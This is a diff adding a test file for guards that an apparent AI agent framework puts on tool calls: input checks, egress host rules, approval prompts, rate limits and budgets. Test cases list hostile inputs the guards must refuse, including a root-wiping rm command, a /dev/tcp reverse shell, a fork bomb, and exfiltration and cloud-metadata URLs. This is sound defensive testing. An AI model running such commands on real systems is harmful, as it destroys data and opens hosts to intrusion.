@@ -1,0 +1,395 @@
+import type {
+  ApprovalRequest,
+  AuditEvent,
+  InvokeContext,
+  JsonValue,
+  ToolAnnotations,
+  ToolInvoker,
+} from "@cem/core";
+import { describe, expect, it } from "vitest";
+import {
+  applyRules,
+  checkEgress,
+  checkInputs,
+  elicitApproval,
+  describeApproval,
+  followPlan,
+  limitCalls,
+  matchTools,
+  planWrites,
+  requireApproval,
+  spendBudgets,
+} from "./index.ts";
+import type { CallGuard, PlannedWrite } from "./index.ts";
+
+/** A tool that notes what reaches it. */
+function guarded(guard: CallGuard, annotations?: ToolAnnotations, outputSchema?: object) {
+  const reached: JsonValue[] = [];
+  const tool: ToolInvoker = {
+    specificationVersion: "v1",
+    async invoke({ args }) {
+      reached.push(args);
+      return { ok: true, value: "done" };
+    },
+  };
+  const invoker = guard(tool);
+  const call = (args: JsonValue, context: Partial<InvokeContext> = {}, name = "files.remove") => {
+    const [server = "", tool = ""] = name.split(".");
+    const made = { server, tool, args, found: { annotations, outputSchema } };
+    return invoker.invoke(made, { signal: new AbortController().signal, ...context });
+  };
+  return { call, reached };
+}
+
+const DESTRUCTIVE = { destructiveHint: true };
+
+describe("matchTools", () => {
+  it.each([
+    ["weather.*", "weather", "get", true],
+    ["weather", "weather", "get", true],
+    ["weather", "weathers", "get", false],
+    ["*.delete_*", "crm", "delete_all", true],
+    ["*.delete_*", "crm", "undelete", false],
+    ["*", "a", "b", true],
+    ["a.b", "a", "bc", false],
+    ["a+.b", "aa", "b", false],
+  ])("%s for %s.%s is %s", (pattern, server, tool, expected) => {
+    expect(matchTools([pattern])(server, tool)).toBe(expected);
+  });
+});
+
+describe("checkInputs", () => {
+  const key = `ghp_${"a1".repeat(18)}`;
+  it.each<[string, JsonValue, string]>([
+    ["a NUL", { path: "a\0b" }, "ARGUMENTS_INVALID"],
+    ["an escape of terminals", { text: "\u001B]52;c;eA==\u0007" }, "ARGUMENTS_INVALID"],
+    ["text that is turned around", { name: "txt.\u202Eexe" }, "ARGUMENTS_INVALID"],
+    ["tags that nobody sees", { text: "hi\u{E0041}\u{E0042}" }, "ARGUMENTS_INVALID"],
+    ["a control character in a key", { "a\0": 1 }, "ARGUMENTS_INVALID"],
+    ["deep nesting", JSON.parse(`${"[".repeat(80)}${"]".repeat(80)}`) as JsonValue, "ARGUMENTS_INVALID"],
+    ["too much", { text: "x".repeat(9_000_000) }, "ARGUMENTS_INVALID"],
+    ["a secret", { note: [`my token is ${key}`] }, "TOOL_NOT_ALLOWED"],
+    ["a command that wipes", { command: "sudo rm -rf --no-preserve-root /" }, "TOOL_NOT_ALLOWED"],
+    ["a shell to elsewhere", { command: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }, "TOOL_NOT_ALLOWED"],
+    ["a fork bomb", { command: ":(){ :|:& };:" }, "TOOL_NOT_ALLOWED"],
+  ])("refuses %s", async (_, args, code) => {
+    const { call, reached } = guarded(checkInputs());
+    await expect(call(args)).rejects.toMatchObject({ code });
+    expect(reached).toEqual([]);
+  });
+
+  it.each<[string, JsonValue]>([
+    ["line ends and tabs", { text: "a\tb\r\nc" }],
+    ["emoji with joiners and flags", { text: "👩‍👩‍👧 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}" }],
+    ["text from right to left", { text: "\u200Fשלום\u200E" }],
+    ["the word constructor", { constructor: "Ferrari", prototype: "x" }],
+    ["a text about commands", { body: "Never type rm -rf / in a shell, nor :(){ :|:& };:" }],
+    ["removing a folder", { command: "rm -rf ./build" }],
+    ["a URL with a placeholder", { url: "postgres://user:password@localhost/db" }],
+    ["SQL", { sql: "DROP TABLE old; DELETE FROM x" }],
+  ])("lets %s through", async (_, args) => {
+    const { call, reached } = guarded(checkInputs());
+    await call(args);
+    expect(reached).toEqual([args]);
+  });
+
+  it("leaves out keys that would change prototypes, and nothing else", async () => {
+    const { call, reached } = guarded(checkInputs());
+    await call(
+      JSON.parse('{"a":{"__proto__":{"x":1},"b":[{"constructor":{"prototype":{}}}]},"c":null}') as JsonValue,
+    );
+    expect(JSON.stringify(reached)).toBe('[{"a":{"b":[{}]},"c":null}]');
+  });
+
+  it("takes a filter of one's own, or none", async () => {
+    const own = guarded(
+      checkInputs({ contentFilter: (text) => (text.includes("cat") ? "a cat" : undefined) }),
+    );
+    await expect(own.call({ a: "a cat" })).rejects.toThrow("holds a cat");
+    await guarded(checkInputs({ contentFilter: false })).call({ command: "rm -rf /" });
+  });
+});
+
+describe("checkEgress", () => {
+  const guard = checkEgress({
+    rules: [{ tools: ["web.*"], hosts: ["*.example.com"] }],
+    secrets: ["s3cr3t-value"],
+  });
+  it.each<JsonValue>([
+    { url: "https://evil.test/?d=1" },
+    { url: "//evil.test/x" },
+    { url: "https:\\\\evil.test" },
+    { url: "https://a.example.com@evil.test" },
+    { url: "https://a.example.com.evil.test" },
+    { url: "https://evil。test" },
+    { text: "see https://a.example.com and http://evil.test" },
+    { host: "evil.test" },
+    { to: "bob@evil.test" },
+    { list: [{ deep: "ftp://evil.test" }] },
+    { "https://evil.test": 1 },
+    { url: "https://a.example.com/?next=http%3A%2F%2Fevil.test" },
+  ])("refuses a host that is not allowed: %j", async (args) => {
+    const { call } = guarded(guard);
+    await expect(call(args, {}, "web.fetch")).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
+  });
+  it.each<JsonValue>([
+    { url: "https://a.example.com/x?y=1" },
+    { url: "https://example.com" },
+    { to: "bob@mail.example.com", text: "1/2, a//b" },
+    { path: "notes.txt", time: "12:30" },
+  ])("lets through %j", async (args) => {
+    const { call, reached } = guarded(guard);
+    await call(args, {}, "web.fetch");
+    expect(reached).toEqual([args]);
+  });
+  it.each([
+    "http://169.254.169.254/latest",
+    "http://2852039166/",
+    "http://0xa9fea9fe/x",
+    "http://[::ffff:169.254.169.254]/",
+  ])("refuses a cloud's metadata to any tool: %s", async (url) => {
+    await expect(guarded(guard).call({ url })).rejects.toThrow("metadata");
+  });
+  it("refuses a secret of this process to any tool", async () => {
+    await expect(guarded(guard).call({ a: ["x s3cr3t-value y"] })).rejects.toThrow("secret");
+  });
+});
+
+describe("applyRules", () => {
+  it("refuses with a rule's reason, and a copy of the arguments is all that it gets", async () => {
+    const guard = applyRules([
+      ({ args }) => {
+        (args as { id: number }).id += 1;
+      },
+      async ({ args }) => (args as { id: number }).id < 10 || "only small ones",
+    ]);
+    const { call, reached } = guarded(guard);
+    await expect(call({ id: 10 })).rejects.toThrow("only small ones.");
+    await call({ id: 1 });
+    expect(reached).toEqual([{ id: 1 }]);
+  });
+  it("refuses where a rule throws", async () => {
+    const guard = applyRules([
+      () => {
+        throw new Error("secret detail");
+      },
+    ]);
+    await expect(guarded(guard).call({})).rejects.toThrow(
+      /^files.remove may not be called: a rule for calls failed.$/,
+    );
+  });
+});
+
+describe("limitCalls", () => {
+  it("counts each tool and session by itself, and tells the wait", async () => {
+    const { call } = guarded(limitCalls([{ tools: ["files.*"], calls: 2, per: 0.2 }]));
+    await call({}, { session: "a" });
+    await call({}, { session: "a" });
+    await call({}, { session: "b" });
+    await call({}, { session: "a" }, "files.read");
+    const error: unknown = await call({}, { session: "a" }).catch((thrown: unknown) => thrown);
+    expect(error).toMatchObject({
+      code: "RATE_LIMITED",
+      details: { calls: 2, retryAfterMs: expect.any(Number) },
+    });
+    const { retryAfterMs } = (error as { details: { retryAfterMs: number } }).details;
+    expect(retryAfterMs).toBeLessThanOrEqual(1_000);
+    await new Promise((resolve) => setTimeout(resolve, retryAfterMs + 20));
+    await call({}, { session: "a" });
+  });
+});
+
+describe("spendBudgets", () => {
+  it("ends a run's calls, and a session's cost", async () => {
+    const guard = spendBudgets({
+      budgets: [{ calls: 2 }, { per: "session", cost: 1, tools: ["files.*"] }],
+      costs: { "files.*": 0.4 },
+    });
+    const { call, reached } = guarded(guard);
+    await call({}, { run: "1" });
+    await call({}, { run: "1" });
+    await expect(call({}, { run: "1" })).rejects.toMatchObject({
+      code: "BUDGET_EXCEEDED",
+      details: { unit: "calls" },
+    });
+    await expect(call({}, { run: "2" })).rejects.toMatchObject({ details: { unit: "cost", used: 0.8 } });
+    await call({}, { run: "2" }, "other.tool");
+    expect(reached).toHaveLength(3);
+  });
+  it("counts bytes, and parallel calls before they end", async () => {
+    const bytes = guarded(spendBudgets({ budgets: [{ bytes: 30 }] }));
+    await bytes.call({ a: "12345" });
+    await expect(bytes.call({ a: "1234567890" })).rejects.toMatchObject({ details: { unit: "bytes" } });
+    const calls = guarded(spendBudgets({ budgets: [{ calls: 3 }] }));
+    const all = await Promise.allSettled([1, 2, 3, 4, 5].map((id) => calls.call({ id })));
+    expect(all.filter(({ status }) => status === "fulfilled")).toHaveLength(3);
+  });
+});
+
+describe("requireApproval", () => {
+  it("asks for what is destructive, and no answer is no", async () => {
+    const { call, reached } = guarded(requireApproval(), DESTRUCTIVE);
+    await expect(call({})).rejects.toMatchObject({ code: "NOT_APPROVED", details: { answer: "unanswered" } });
+    expect(reached).toEqual([]);
+    await guarded(requireApproval(), {}).call({});
+    await guarded(requireApproval(), { ...DESTRUCTIVE, readOnlyHint: true }).call({});
+  });
+
+  it("remembers a yes for the session, for the tool and the session alone", async () => {
+    const asked: ApprovalRequest[] = [];
+    const events: AuditEvent[] = [];
+    const guard = requireApproval({
+      approve: async (request) => {
+        asked.push(request);
+        return asked.length === 1 ? "once" : "session";
+      },
+      audit: { specificationVersion: "v1", record: (event) => void events.push(event) },
+    });
+    const { call } = guarded(guard, DESTRUCTIVE);
+    await call({ id: 1 }, { session: "a" });
+    await call({ id: 2 }, { session: "a" });
+    await call({ id: 3 }, { session: "a" });
+    await call({ id: 4 }, { session: "b" });
+    await call({ id: 5 }, { session: "a" }, "files.other");
+    expect(asked.map(({ args }) => args)).toEqual([{ id: 1 }, { id: 2 }, { id: 4 }, { id: 5 }]);
+    expect(events.map((event) => event.type === "approval" && event.answer)).toEqual([
+      "once",
+      "session",
+      "earlier",
+      "session",
+      "session",
+    ]);
+    expect(JSON.stringify(events)).not.toContain('"id":1');
+  });
+
+  it("stops the run's clock while parallel calls wait together", async () => {
+    const waits: boolean[] = [];
+    const asked: unknown[] = [];
+    const answers: ((answer: "once") => void)[] = [];
+    const guard = requireApproval({
+      approve: (request) => {
+        asked.push(request.args);
+        return new Promise((resolve) => answers.push(resolve));
+      },
+    });
+    const { call, reached } = guarded(guard, DESTRUCTIVE);
+    const context = { onWaiting: (waiting: boolean) => void waits.push(waiting) };
+    const calls = Promise.all([call(1, context), call(2, context)]);
+    await new Promise((resolve) => setTimeout(resolve, 40));
+    expect(asked).toEqual([1, 2]);
+    expect(waits).toEqual([true, true]);
+    for (const answer of answers) answer("once");
+    await calls;
+    expect(waits).toEqual([true, true, false, false]);
+    expect(reached).toEqual([1, 2]);
+  });
+
+  it.each([
+    ["what throws", async () => Promise.reject(new Error("no"))],
+    ["what is no answer", async () => true as unknown as "once"],
+  ])("takes %s for no", async (_, approve) => {
+    await expect(guarded(requireApproval({ approve }), DESTRUCTIVE).call({})).rejects.toMatchObject({
+      code: "NOT_APPROVED",
+    });
+  });
+
+  it("ends with its run", async () => {
+    const controller = new AbortController();
+    const { call } = guarded(requireApproval({ approve: () => new Promise(() => {}) }), DESTRUCTIVE);
+    const asked = call({}, { signal: controller.signal });
+    setTimeout(() => controller.abort(new Error("over")), 30);
+    await expect(asked).rejects.toThrow("over");
+  });
+
+  it.each<[string[], ToolAnnotations | undefined, boolean]>([
+    [["files.*"], { readOnlyHint: true }, true],
+    [["writes"], undefined, true],
+    [["writes"], { readOnlyHint: true }, false],
+    [["destructive"], undefined, false],
+    [["writes", "!files.remove"], DESTRUCTIVE, false],
+    [[], DESTRUCTIVE, false],
+  ])("with %j and %j asks: %s", async (tools, annotations, asks) => {
+    let asked = false;
+    const approve = async () => {
+      asked = true;
+      return "once" as const;
+    };
+    await guarded(requireApproval({ tools, approve }), annotations).call({});
+    expect(asked).toBe(asks);
+  });
+
+  it("asks where a rule wants it, each time", async () => {
+    let asked = 0;
+    const approve = async ({ reason }: ApprovalRequest) => {
+      asked += 1;
+      expect(reason).toBe("it is more than 100");
+      return "session" as const;
+    };
+    const rules = applyRules([({ args }) => (args as number) <= 100 || { ask: "it is more than 100" }]);
+    const { call } = guarded((next) => rules(requireApproval({ approve })(next)));
+    await call(100);
+    await call(101);
+    await call(102);
+    expect(asked).toBe(2);
+  });
+});
+
+describe("elicitApproval", () => {
+  const request = {
+    server: "files",
+    tool: "remove",
+    args: { id: 1 },
+    reason: "it may delete",
+    signal: new AbortController().signal,
+  };
+  it.each([
+    [{ action: "accept", content: { answer: "Yes, this once" } }, "once"],
+    [{ action: "accept", content: { answer: "Yes, for this session" } }, "session"],
+    [{ action: "accept", content: { answer: "No" } }, "no"],
+    [{ action: "accept", content: { answer: "__proto__" } }, "no"],
+    [{ action: "accept" }, "no"],
+    [{ action: "decline" }, "no"],
+  ] as const)("reads %j as %s", async (answer, expected) => {
+    await expect(elicitApproval(async () => answer)(request)).resolves.toBe(expected);
+  });
+  it("is unanswered where nobody could be asked", async () => {
+    await expect(
+      elicitApproval(async () => ({ action: "cancel", reason: "Nobody is there." }))(request),
+    ).rejects.toThrow("Nobody is there.");
+  });
+  it("shows the arguments, without what could deceive", () => {
+    const text = describeApproval({
+      ...request,
+      args: { id: "1\u202E\n\u001B[2J", long: "x".repeat(5_000) },
+    });
+    expect(text).toContain("files.remove, and it may delete");
+    expect(text).toContain("<U+202E>");
+    expect(text).toMatch(/more characters are not shown/);
+    expect(text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  });
+});
+
+describe("a plan", () => {
+  it("lists writes, lets reads through, and then allows exactly the writes", async () => {
+    const writes: PlannedWrite[] = [];
+    const plan = planWrites((write) => void writes.push(write), ["files.look"]);
+    const schema = { type: "object", properties: { id: { type: "integer" } }, required: ["id"] };
+    const read = guarded(plan, { readOnlyHint: true });
+    const write = guarded(plan, undefined, schema);
+    await read.call({ a: 1 });
+    await write.call({ a: 1 }, {}, "files.look");
+    expect(await write.call({ b: 2, a: 1 })).toMatchObject({ ok: true, value: { id: expect.any(Number) } });
+    await write.call({ c: 3 });
+    expect([read.reached.length, write.reached.length]).toEqual([1, 1]);
+    expect(writes.map(({ args }) => args)).toEqual([{ b: 2, a: 1 }, { c: 3 }]);
+
+    const { call, reached } = guarded(followPlan(writes, ["files.look"]));
+    await call({ a: 1, b: 2 });
+    await expect(call({ a: 1, b: 2 })).rejects.toMatchObject({ code: "NOT_APPROVED" });
+    await expect(call({ c: 4 })).rejects.toMatchObject({ code: "NOT_APPROVED" });
+    await expect(call({ c: 3 }, {}, "files.other")).rejects.toMatchObject({ code: "NOT_APPROVED" });
+    await call({ c: 3 });
+    await call({}, {}, "files.look");
+    expect(reached).toHaveLength(3);
+  });
+});
